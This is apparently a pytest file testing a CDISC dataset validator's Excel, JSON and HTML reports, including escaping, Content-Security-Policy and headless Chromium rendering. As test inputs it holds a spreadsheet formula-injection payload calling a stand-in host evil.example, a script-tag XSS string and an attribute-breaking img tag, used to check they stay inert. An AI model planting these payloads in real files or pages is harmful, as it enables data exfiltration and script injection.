"""Issue #12, reports: validation.xlsx in the Pinnacle 21 layout, validation.html with the
same content (sortable, filterable, offline, escaped), rule scope, and the CT version.

The HTML page is also opened in headless Chromium on the CDISC pilot's report (skipped
when Chromium or the pilot files are absent): its script must run under the page's
Content-Security-Policy, filter the Details from an address, and draw a picture.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import shutil
import subprocess
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

import cli
from cdisc.errors import CdiscError, Location, Problem, Severity
from cdisc.formats.xpt import write_xpt
from cdisc.limits import Limits
from cdisc.standards import ct_versions
from cdisc.validate import (
    ValidationResult,
    to_json,
    validate_datasets,
    validate_folder,
    write_reports,
)
from cdisc.validate.engine import check_ct_version, dataset_class, run_rule
from cdisc.validate.registry import CATEGORIES, InScope, Rule, Scope, get_rule
from cdisc.validate.report import HTML_NAME, JSON_NAME, XLSX_NAME, html_report
from cdisc.validate.study import Study

PILOT = Path(__file__).resolve().parents[2] / "shared" / "reference" / "cdiscpilot01"
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
CREATED = datetime(2020, 1, 1)
SDTM_CT = ct_versions()["SDTM CT"]

SHEETS = {
    "Validation Summary": ["Item", "Value"],
    "Dataset Summary": ["Dataset", "Label", "Class", "Records", "Rejects", "Errors",
                        "Warnings", "Notices", "File"],
    "Issue Summary": ["Source", "Rule ID", "Message", "Severity", "Found"],
    "Details": ["Source", "Record", "Count", "Variables", "Values", "Rule ID", "Message",
                "Category", "Severity", "USUBJID", "Location"],
    "Rules": ["Rule ID", "Description", "Citation", "Category", "Severity", "Scope", "Found"],
}
LABELS = {"Reject", "Error", "Warning", "Notice"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SCRIPT = "<script>alert(1)</script>"


def _dm(sex: list[str]) -> pd.DataFrame:
    n = len(sex)
    return pd.DataFrame({
        "STUDYID": ["S"] * n, "DOMAIN": ["DM"] * n,
        "USUBJID": [f"S-{i}" for i in range(n)], "SUBJID": [str(i) for i in range(n)],
        "SITEID": ["1"] * n, "SEX": sex, "COUNTRY": ["USA"] * n,
    })


@pytest.fixture
def result():
    """DM with SEX values outside the codelist (CV0103): one looks like a formula, one like
    a script; AE without its required variables; a dataset we do not know."""
    ae = pd.DataFrame({"STUDYID": ["S"], "DOMAIN": ["AE"], "USUBJID": ["S-0"],
                       "AETERM": ["HEADACHE"]})
    xx = pd.DataFrame({"STUDYID": ["S"], "XXTESTCD": ["A"]})
    return validate_datasets({"DM": _dm(["M", "F", FORMULA, SCRIPT, "BAD"]), "AE": ae,
                              "XX": xx}, date=CREATED)


def _rows(ws) -> list[tuple]:
    return list(ws.iter_rows(min_row=2, values_only=True))


# --- the workbook -------------------------------------------------------------------------


def test_workbook_sheets_headers_and_layout(result, tmp_path):
    write_reports(result, tmp_path)
    wb = load_workbook(tmp_path / XLSX_NAME)
    assert wb.sheetnames == list(SHEETS)
    for title, header in SHEETS.items():
        ws = wb[title]
        assert [c.value for c in ws[1]] == header, title
        assert all(c.font.bold for c in ws[1]), title
        assert ws.freeze_panes == "A2", title
        assert all(ws.column_dimensions[chr(ord("A") + i)].width >= 7
                   for i in range(len(header))), title
        if title != "Validation Summary":  # two columns of facts: nothing to filter
            assert ws.auto_filter.ref == ws.dimensions, title
    assert wb.properties.created == wb.properties.modified == datetime(1980, 1, 1)


def test_workbook_counts_and_capitalised_severities(result, tmp_path):
    write_reports(result, tmp_path)
    wb = load_workbook(tmp_path / XLSX_NAME)
    summary = dict(_rows(wb["Validation Summary"]))
    assert summary["Errors"] == result.summary["error"] > 0
    assert summary["Warnings"] == result.summary["warning"]
    assert summary["Notices"] == result.summary["notice"] > 0  # XX is not in our metadata
    assert summary["Rejects"] == 0 and summary["Findings"] == len(result.findings)
    assert summary["Datasets"] == 3 and summary["Records"] == 7
    assert summary["Rules run"] == len(result.rules)
    assert summary["Date"].startswith("2020-01-01T00:00:00")
    assert summary["CT version"] == f"{SDTM_CT} (SDTM CT)"
    assert summary["Standards"] == "SDTMIG 3.4"

    datasets = {r[0]: r for r in _rows(wb["Dataset Summary"])}
    assert datasets["DM"][1:4] == ("Demographics", "SPECIAL PURPOSE", 5)
    assert datasets["AE"][2] == "EVENTS"
    assert datasets["XX"][1:3] == (None, "FINDINGS")  # unknown: class from XXTESTCD
    per = {name: sum(p.severity is Severity.ERROR for p in result.findings
                     if p.location.dataset == name) for name in datasets}
    assert {name: row[5] for name, row in datasets.items()} == per
    assert sum(row[5] + row[6] + row[7] for row in datasets.values()) == len(result.findings)

    issues = _rows(wb["Issue Summary"])
    assert sum(r[4] for r in issues) == len(result.findings)
    assert [r[0] for r in issues] == sorted(r[0] for r in issues)  # grouped per dataset
    dm = [r for r in issues if r[0] == "DM"]
    assert ("DM", "CV0103") in {(r[0], r[1]) for r in dm}
    ranks = [["Reject", "Error", "Warning", "Notice"].index(r[3]) for r in dm]
    assert ranks == sorted(ranks)  # severities in P21's order within a dataset

    details = _rows(wb["Details"])
    assert len(details) == len(result.findings)
    rules = _rows(wb["Rules"])
    assert [r[0] for r in rules] == [r.id for r in result.rules]
    assert {r[3] for r in rules} <= set(CATEGORIES)
    for sheet, column in (("Issue Summary", 3), ("Details", 8), ("Rules", 4)):
        assert {r[column] for r in _rows(wb[sheet])} <= LABELS, sheet
    cv0103 = [r for r in details if r[5] == "CV0103"]
    assert {r[4] for r in cv0103} == {FORMULA, SCRIPT, "BAD"}
    assert all(r[0] == "DM" and r[2] == 1 and r[3] == "SEX" and r[7] == "Terminology"
               for r in cv0103)
    assert {r[1] for r in cv0103} == {3, 4, 5} and {r[9] for r in cv0103} == {"S-2", "S-3",
                                                                              "S-4"}


def test_formula_looking_value_stays_a_string_cell(result, tmp_path):
    write_reports(result, tmp_path)
    wb = load_workbook(tmp_path / XLSX_NAME)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    (formula,) = [c for c in cells if c.value == FORMULA]
    assert formula.data_type == "s"


def test_cap_per_rule_keeps_exact_counts(tmp_path):
    result = validate_datasets({"DM": _dm(["BAD"] * 7)})
    write_reports(result, tmp_path, Limits(problems_per_code=2))
    wb = load_workbook(tmp_path / XLSX_NAME)
    rows = [r for r in _rows(wb["Details"]) if r[5] == "CV0103"]
    assert [r[2] for r in rows] == [1, 1, 5]  # the closing row counts those not listed
    assert rows[-1][6].startswith("5 more findings of CV0103")
    assert [r[4] for r in _rows(wb["Issue Summary"]) if r[1] == "CV0103"] == [7]
    assert [r[6] for r in _rows(wb["Rules"]) if r[0] == "CV0103"] == [7]
    html = (tmp_path / HTML_NAME).read_text(encoding="utf-8")
    assert "5 more findings of CV0103" in html


def test_reports_are_byte_stable_and_json_keeps_its_fields(result, tmp_path):
    first = write_reports(result, tmp_path / "a")
    second = write_reports(result, tmp_path / "b")
    assert [p.name for p in first] == [JSON_NAME, XLSX_NAME, HTML_NAME]
    for a, b in zip(first, second, strict=True):
        assert a.read_bytes() == b.read_bytes(), a.name
    payload = json.loads(first[0].read_text())
    assert payload["run"] == {"date": "2020-01-01T00:00:00", "date_source": None,
                              "folder": None, "ct_version": SDTM_CT}
    assert payload["severities"]["error"] == "Error"
    # the fields earlier readers use are unchanged; the display form is added beside them
    assert set(payload["findings"][0]) >= {"rule", "severity", "dataset", "usubjid",
                                           "variable", "value", "record", "message"}
    rule = next(r for r in payload["rules"] if r["id"] == "CV0103")
    assert (rule["severity"], rule["severity_label"], rule["category"]) == (
        "error", "Error", "Terminology")
    assert payload["summary"] == result.summary


# --- the HTML page ------------------------------------------------------------------------


class _Page(HTMLParser):
    """Tables (section id -> header and rows of cell text), script tags and the CSP."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tables: dict[str, dict[str, list]] = {}
        self.scripts: list[str] = []
        self.csp = ""
        self._section = ""
        self._row: list[str] | None = None
        self._cell: list[str] | None = None
        self._in_head = False
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "section":
            self._section = a["id"]
            self.tables[self._section] = {"header": [], "rows": []}
        elif tag == "meta" and a.get("http-equiv") == "Content-Security-Policy":
            self.csp = a["content"]
        elif tag == "script":
            self._in_script = True
            self.scripts.append("")
        elif tag == "thead":
            self._in_head = True
        elif tag == "tr":
            self._row = []
        elif tag in ("td", "th") and self._row is not None:
            self._cell = []

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False
        elif tag == "thead":
            self._in_head = False
        elif tag in ("td", "th") and self._cell is not None and self._row is not None:
            self._row.append("".join(self._cell))
            self._cell = None
        elif tag == "tr" and self._row is not None:
            table = self.tables[self._section]
            if self._in_head:
                table["header"] = self._row
            else:
                table["rows"].append(self._row)
            self._row = None

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data
        elif self._cell is not None:
            self._cell.append(data)


def _page(text: str) -> _Page:
    page = _Page()
    page.feed(text)
    page.close()
    return page


def test_html_has_the_workbook_content(result, tmp_path):
    write_reports(result, tmp_path)
    page = _page((tmp_path / HTML_NAME).read_text(encoding="utf-8"))
    wb = load_workbook(tmp_path / XLSX_NAME)
    assert list(page.tables) == [t.lower().replace(" ", "-") for t in SHEETS]
    for title, header in SHEETS.items():
        table = page.tables[title.lower().replace(" ", "-")]
        if title == "Validation Summary":  # a list of facts: no header row
            assert [r[0] for r in table["rows"]] == [r[0] for r in _rows(wb[title])]
            continue
        assert table["header"] == header, title
        expected = [["" if v is None else str(v) for v in row] for row in _rows(wb[title])]
        assert table["rows"] == expected, title
    details = page.tables["details"]["rows"]
    messages = {r[6] for r in details}
    assert {p.message for p in result.findings} <= messages
    facts = {r[0]: r[1] for r in page.tables["validation-summary"]["rows"]}
    assert facts["CT version"] == f"{SDTM_CT} (SDTM CT)"


def test_html_escapes_values_and_runs_only_its_own_script(result):
    text = html_report(result)
    assert SCRIPT not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    page = _page(text)
    assert len(page.scripts) == 1  # the page's own; the value above is text in a cell
    assert SCRIPT in {r[4] for r in page.tables["details"]["rows"]}
    digest = hashlib.sha256(page.scripts[0].encode("utf-8")).digest()
    assert f"script-src 'sha256-{base64.b64encode(digest).decode()}'" in page.csp
    assert "default-src 'none'" in page.csp
    assert not re.search(r"\son[a-z]+=", text)  # no inline event handlers
    assert "http://" not in text.replace("http://evil.example", "")  # nothing fetched


def test_html_escapes_control_characters_and_quotes_in_attributes():
    problem = Problem("CV0103", "bad", Location(dataset='D"><img src=x>', field="SEX",
                                                value="\x1b[2J\u202e", record=1))
    base = validate_datasets({"DM": _dm(["M"])})
    text = html_report(ValidationResult(base.datasets, [problem], base.rules, ct_version=SDTM_CT))
    assert "\x1b" not in text and "\u202e" not in text and "\\x1b[2J\\u202e" in text
    assert '"><img' not in text and "&quot;&gt;&lt;img src=x&gt;" in text


# --- rule scope ---------------------------------------------------------------------------


def _study() -> Study:
    frames = {
        "DM": _dm(["M"]),
        "AE": pd.DataFrame({"USUBJID": ["S-0"], "AETERM": ["X"], "AESTDTC": ["2020"]}),
        "XX": pd.DataFrame({"USUBJID": ["S-0"], "XXTERM": ["X"]}),  # unknown: EVENTS
        "LB": pd.DataFrame({"USUBJID": ["S-0"], "LBTESTCD": ["A"]}),
        "SUPPAE": pd.DataFrame({"RDOMAIN": ["AE"]}),
        "ADTTE": pd.DataFrame({"USUBJID": ["S-0"], "PARAMCD": ["OS"], "CNSR": [0]}),
        "ADXX": pd.DataFrame({"USUBJID": ["S-0"], "PARAMCD": ["X"]}),
    }
    return Study(frames)


def _scoped(scope: Scope, check=None) -> tuple[Rule, list[str]]:
    seen: list[str] = []

    def record(ds: InScope) -> list[Problem]:
        assert ds.frame is ds.study[ds.name]
        seen.append(f"{ds.name}:{ds.dataset_class}")
        return []

    return Rule("CV9999", Severity.WARNING, "test", "test", "test", check or record,
                scope), seen


def test_scope_gives_a_rule_only_its_datasets():
    study = _study()
    rule, seen = _scoped(Scope(classes=("events",), names=("DM",)))
    run_rule(rule, study)
    assert seen == ["AE:EVENTS", "DM:SPECIAL PURPOSE", "XX:EVENTS"]
    rule, seen = _scoped(Scope(standard="ADaM", variables=("CNSR",)))
    run_rule(rule, study)
    assert seen == ["ADTTE:BASIC DATA STRUCTURE"]
    rule, seen = _scoped(Scope(variables=("--STDTC",)))
    run_rule(rule, study)
    assert seen == ["AE:EVENTS"]
    rule, seen = _scoped(Scope(names=("SUPP--",)))
    run_rule(rule, study)
    assert seen == ["SUPPAE:RELATIONSHIP"]
    rule, seen = _scoped(Scope())
    run_rule(rule, study)
    assert len(seen) == len(study)
    assert Scope(classes=("EVENTS",), names=("AE",)).describe() == "AE or class EVENTS"
    with pytest.raises(TypeError):
        Scope(names="AE")


def test_scoped_rule_that_raises_is_a_finding_for_that_dataset():
    def boom(ds: InScope) -> list[Problem]:
        raise KeyError(ds.name)

    rule, _ = _scoped(Scope(names=("AE", "DM")), boom)
    found = run_rule(rule, _study())
    assert [(p.code, p.location.dataset) for p in found] == [("CV0000", "AE"),
                                                             ("CV0000", "DM")]
    assert "rule CV9999 could not run on AE: KeyError" in found[0].message


def test_dataset_class_from_metadata_or_variables():
    assert dataset_class("AE", [], "SDTM") == "EVENTS"
    assert dataset_class("QQ", ["QQTRT"], "SDTM") == "INTERVENTIONS"
    assert dataset_class("ADQQ", ["PARAMCD"], "ADaM") == "BASIC DATA STRUCTURE"
    assert dataset_class("QQ", ["USUBJID"], "SDTM") is None


def test_adtte_family_is_scoped_and_still_finds_its_defects():
    assert get_rule("CV0904").scope == Scope(standard="ADaM", variables=("CNSR",))
    adtte = pd.DataFrame({"STUDYID": ["S"] * 2, "USUBJID": ["S-0", "S-1"],
                          "PARAMCD": ["OS", "OS"], "AVAL": [-1.0, 3.0], "CNSR": [0, 2],
                          "ADT": [10.0, 12.0], "STARTDT": [11.0, 10.0]})
    # CNSR in an SDTM dataset is out of the family's scope
    sdtm = pd.DataFrame({"STUDYID": ["S"], "USUBJID": ["S-0"], "CNSR": [-5]})
    found = validate_datasets({"ADTTE": adtte, "QQ": sdtm},
                              standard_hint={"ADTTE": "ADaM", "QQ": "SDTM"}).findings
    by_rule = {(p.code, p.location.dataset, p.location.record) for p in found
               if p.code.startswith("CV09")}
    assert {("CV0904", "ADTTE", 1), ("CV0903", "ADTTE", 2), ("CV0906", "ADTTE", 1),
            ("CV0905", "ADTTE", 1)} <= by_rule
    assert not [p for p in found if p.code.startswith("CV09") and p.location.dataset == "QQ"]
    assert not [p for p in found if p.code == "CV0000"]


# --- the CT version -----------------------------------------------------------------------


def test_ct_version_is_recorded_in_every_report(tmp_path):
    result = validate_datasets({"DM": _dm(["M"])}, ct_version=SDTM_CT)
    assert result.ct_version == SDTM_CT
    write_reports(result, tmp_path)
    assert json.loads((tmp_path / JSON_NAME).read_text())["run"]["ct_version"] == SDTM_CT
    summary = dict(_rows(load_workbook(tmp_path / XLSX_NAME)["Validation Summary"]))
    assert summary["CT version"] == f"{SDTM_CT} (SDTM CT)"
    assert SDTM_CT in summary["CT packages"]
    assert f"CT {SDTM_CT} (SDTM CT)" in (tmp_path / HTML_NAME).read_text(encoding="utf-8")
    assert to_json(validate_datasets({"DM": _dm(["M"])}))["run"]["ct_version"] == SDTM_CT


def test_ct_version_not_shipped_is_refused_naming_the_shipped_ones(tmp_path):
    with pytest.raises(CdiscError) as excinfo:
        check_ct_version("2019-12-20")
    (problem,) = excinfo.value.problems
    assert problem.code == "VAL007"
    assert "2019-12-20" in problem.message and f"SDTM CT {SDTM_CT}" in problem.message
    # refused before the folder is read (it does not even exist)
    with pytest.raises(CdiscError) as excinfo:
        validate_folder(tmp_path / "nowhere", ct_version="2019-12-20")
    assert [p.code for p in excinfo.value.problems] == ["VAL007"]


# --- the run's date -----------------------------------------------------------------------


def test_folder_date_comes_from_the_data_never_the_clock(tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    frame = _dm(["M"])
    write_xpt(frame, tmp_path / "dm.xpt", name="DM", label="Demographics",
              column_labels={c: c for c in frame}, created=CREATED)
    result = validate_folder(tmp_path)
    assert (result.date, result.date_source) == ("2020-01-01T00:00:00", "the header of dm.xpt")
    assert result.folder == str(tmp_path)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "86400")
    assert validate_folder(tmp_path).date == "1970-01-02T00:00:00"


# --- the pilot's page in a browser --------------------------------------------------------


def _chromium(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu",
                           "--virtual-time-budget=5000", *args],
                          capture_output=True, text=True, timeout=180, check=False)


@pytest.mark.e2e
@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
@pytest.mark.skipif(not PILOT.is_dir(), reason="../shared/reference/cdiscpilot01 is absent")
def test_pilot_report_in_headless_chromium(tmp_path):
    data = tmp_path / "pilot"
    data.mkdir()
    for name in ("dm", "ex", "ae", "adsl", "adtte"):
        shutil.copy(PILOT / f"{name}.xpt", data / f"{name}.xpt")
    run = CliRunner().invoke(cli.main, ["validate", str(data), "--out", str(tmp_path / "r")])
    assert run.exit_code in (0, 1), run.output
    page = tmp_path / "r" / HTML_NAME
    payload = json.loads((tmp_path / "r" / JSON_NAME).read_text())
    listed = len(payload["findings"]) + sum(1 for r in payload["rules"] if "omitted" in r)

    dom = _chromium("--dump-dom", page.as_uri()).stdout
    # the script ran (under the page's CSP) and counted every row of every table
    assert f'class="count">{listed} of {listed} rows' in dom
    assert 'class="filters"' in dom
    # an address filters the Details: the DM rows of one rule
    rule = next(f["rule"] for f in payload["findings"] if f["dataset"] == "DM")
    wanted = sum(1 for f in payload["findings"] if f["dataset"] == "DM" and f["rule"] == rule)
    dom = _chromium("--dump-dom", f"{page.as_uri()}#details?Source=DM&Rule%20ID={rule}").stdout
    assert f'class="count">{wanted} of {listed} rows' in dom

    png = tmp_path / "v.png"
    _chromium(f"--screenshot={png}", "--window-size=1400,900", page.as_uri())
    assert png.is_file() and png.stat().st_size > 20_000  # a drawn page, not a blank one
